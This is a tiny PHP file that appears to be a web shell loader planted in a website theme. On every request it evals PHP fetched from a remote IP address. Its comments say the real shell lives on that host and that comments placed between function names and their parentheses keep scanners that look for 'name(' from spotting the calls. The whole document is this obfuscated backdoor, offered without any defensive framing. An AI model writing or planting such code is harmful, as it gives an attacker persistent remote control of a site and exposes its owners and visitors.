<?=/*~*/@null; /*****/
// A stub planted in a theme: the real shell lives on another host and is fetched on every request.
// Comments between each name and its "(" hide the calls from patterns that expect "name(".
@eval/*****/("?>" . file_get_contents/*******/("https://198.51.100.77/kits/mini.php"));
/*~*/?>
